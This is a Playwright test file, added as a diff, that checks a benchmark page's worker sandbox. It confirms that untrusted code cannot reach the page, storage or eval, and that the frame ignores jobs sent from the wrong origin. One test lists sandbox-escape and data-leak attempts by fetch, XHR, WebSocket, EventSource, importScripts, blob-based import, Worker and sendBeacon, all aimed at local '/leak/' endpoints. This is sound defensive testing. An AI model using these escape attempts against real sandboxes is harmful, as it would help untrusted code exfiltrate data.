@@ -1,0 +1,158 @@
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { expect, type Page, test } from '@playwright/test';
+import { notes, over, run, runEdited, slow, status } from './bench-hands.ts';
+import { honest, serveBench, timed } from './bench-page.ts';
+
+/** Says what an expression gives inside the worker: its result is thrown, and so stands in the page. */
+const asking = (expression: string) =>
+  timed(
+    honest,
+    `async () => { let it; try { it = await (async () => { ${expression} })(); } catch (error) { it = 'refused ' + error.name; } throw new Error('RESULT ' + it); }`,
+  );
+
+async function answerTo(page: Page, expression: string) {
+  const site = await serveBench(slow);
+  try {
+    await runEdited(page, site, asking(expression));
+    await expect(notes(page)).toContainText('RESULT', { timeout: 60_000 });
+    await over(page);
+    return /RESULT (.*)/.exec(
+      (await notes(page).locator('li', { hasText: 'RESULT' }).first().textContent()) ?? '',
+    )?.[1];
+  } finally {
+    site.close();
+  }
+}
+
+test.describe('code that wants out', () => {
+  test('sees nothing of the page or of the site', async ({ page }) => {
+    const seen = await answerTo(
+      page,
+      `return [typeof document, typeof window, typeof parent, typeof top, typeof localStorage, typeof cookieStore, self.origin, String(location).slice(0, 9)].join(' ')`,
+    );
+    expect(seen).toBe('undefined undefined undefined undefined undefined undefined null blob:null');
+  });
+
+  test('cannot store anything', async ({ page }) => {
+    const seen = await answerTo(
+      page,
+      `const db = await new Promise((done) => { try { const it = indexedDB.open('x'); it.onsuccess = () => done('opened'); it.onerror = () => done('refused'); } catch { done('refused'); } });
+       const caching = await (globalThis.caches?.open('x').then(() => 'opened', () => 'refused') ?? 'none');
+       const files = await (navigator.storage?.getDirectory?.().then(() => 'opened', () => 'refused') ?? 'none');
+       return [db, caching, files].join(' ')`,
+    );
+    expect(seen).not.toContain('opened');
+  });
+
+  test('can make no code out of text', async ({ page }) => {
+    expect(await answerTo(page, `return eval('1 + 1')`)).toBe('refused EvalError');
+  });
+
+  test('cannot speak to the page by a channel of the site', async ({ page }) => {
+    await page.addInitScript(() => {
+      const heard: unknown[] = [];
+      Object.assign(window, { heard });
+      new BroadcastChannel('site').onmessage = ({ data }) => heard.push(data);
+    });
+    await answerTo(page, `new BroadcastChannel('site').postMessage('secret'); return 'posted'`);
+    expect(await page.evaluate(() => Reflect.get(window, 'heard'))).toEqual([]);
+  });
+
+  test('reaches no server by any of the ways there are', async ({ page }) => {
+    const hits: string[] = [];
+    const other = createServer(({ url = '' }, response) => {
+      hits.push(url);
+      response.setHeader('access-control-allow-origin', '*').end('out');
+    });
+    other.on('upgrade', ({ url = '' }, socket) => {
+      hits.push(url);
+      socket.destroy();
+    });
+    other.on('connection', () => hits.push('connection'));
+    await once(other.listen(0, '127.0.0.1'), 'listening');
+    const site = await serveBench(slow);
+    const [there, here] = [`127.0.0.1:${(other.address() as AddressInfo).port}`, new URL(site.origin).host];
+    const ways = [there, here].flatMap((host) => [
+      `await fetch('http://${host}/leak/fetch', { mode: 'no-cors' }); return 'out'`,
+      `await fetch('http://${host}/leak/fetch', { credentials: 'include' }); return 'out'`,
+      `return await new Promise((done) => { const it = new XMLHttpRequest(); it.onload = () => done('out'); it.onerror = () => done('refused'); it.open('GET', 'http://${host}/leak/xhr'); it.send(); })`,
+      `return await new Promise((done) => { const it = new WebSocket('ws://${host}/leak/ws'); it.onopen = () => done('out'); it.onerror = () => done('refused'); })`,
+      `return await new Promise((done) => { const it = new EventSource('http://${host}/leak/es'); it.onopen = () => done('out'); it.onerror = () => done('refused'); })`,
+      `importScripts('http://${host}/leak/scripts.js'); return 'out'`,
+      // The word itself is refused before anything runs, so it comes in by a script of its own.
+      `importScripts(URL.createObjectURL(new Blob(['self.load = (it) => import(it)']))); await load('http://${host}/leak/import.js'); return 'out'`,
+      `await new Promise((done, fail) => { const it = new Worker('http://${host}/leak/worker.js'); it.onerror = fail; setTimeout(done, 300); }); return 'out'`,
+      `navigator.sendBeacon?.('http://${host}/leak/beacon'); return typeof navigator.sendBeacon`,
+      `return typeof RTCPeerConnection`,
+    ]);
+    const tries = ways.map((way) => `async () => { ${way} }`).join(',\n');
+    const all = asking(
+      `const told = []; for (const way of [${tries}]) { try { told.push(await Promise.race([way(), new Promise((done) => setTimeout(() => done('late'), 400))])); } catch { told.push('refused'); } } return told.join(' ')`,
+    );
+    await page.goto(site.origin);
+    const asked = site.asked.length;
+    await runEdited(page, site, all);
+    await expect(page.locator('.bench-panel')).toContainText(/RESULT|没有回答/, { timeout: 60_000 });
+    await over(page);
+    expect(hits).toEqual([]);
+    expect(site.asked.slice(asked).filter((path) => path.includes('leak'))).toEqual([]);
+    await expect(page.locator('.bench-panel')).not.toContainText(/RESULT[^。]*\bout\b/);
+    site.close();
+    other.close();
+  });
+});
+
+test.describe('the frame', () => {
+  test('does nothing when it is opened by itself, where it would have the origin of the site', async ({ page }) => {
+    const site = await serveBench(slow);
+    await page.goto(site.origin + site.frame);
+    const answer = await page.evaluate(
+      (job) =>
+        new Promise((done) => {
+          const { port1, port2 } = new MessageChannel();
+          port1.onmessage = ({ data }) => done(data);
+          window.postMessage({ kind: 'galley-bench-job', job }, '*', [port2]);
+          setTimeout(() => done('silence'), 1500);
+        }),
+      { ...site.payload, seed: 1, deadlineMs: 1000, budgetMs: 1000 },
+    );
+    expect(answer).toBe('silence');
+    site.close();
+  });
+
+  test('does nothing inside a page that gives it its own origin', async ({ page }) => {
+    const site = await serveBench(slow);
+    await page.goto(site.origin);
+    const answer = await page.evaluate(
+      ([frame, payload]) =>
+        new Promise((done) => {
+          const made = document.createElement('iframe');
+          made.src = String(frame);
+          made.onload = () => {
+            const { port1, port2 } = new MessageChannel();
+            port1.onmessage = ({ data }) => done(data);
+            made.contentWindow?.postMessage({ kind: 'galley-bench-job', job: payload }, '*', [port2]);
+            setTimeout(() => done('silence'), 1500);
+          };
+          document.body.append(made);
+        }),
+      [site.frame, { ...site.payload, seed: 1, deadlineMs: 1000, budgetMs: 1000 }] as const,
+    );
+    expect(answer).toBe('silence');
+    site.close();
+  });
+
+  test('that never comes is told of, and the table can still be read', async ({ page }) => {
+    const site = await serveBench(slow);
+    await page.route(`**${site.frame}`, (route) =>
+      route.fulfill({ status: 404, contentType: 'text/html', body: 'no' }),
+    );
+    await page.goto(site.origin);
+    await run(page);
+    await expect(status(page)).toContainText('沙箱没有打开', { timeout: 15_000 });
+    await expect(page.getByRole('button', { name: '运行' })).toBeEnabled();
+    site.close();
+  });
+});
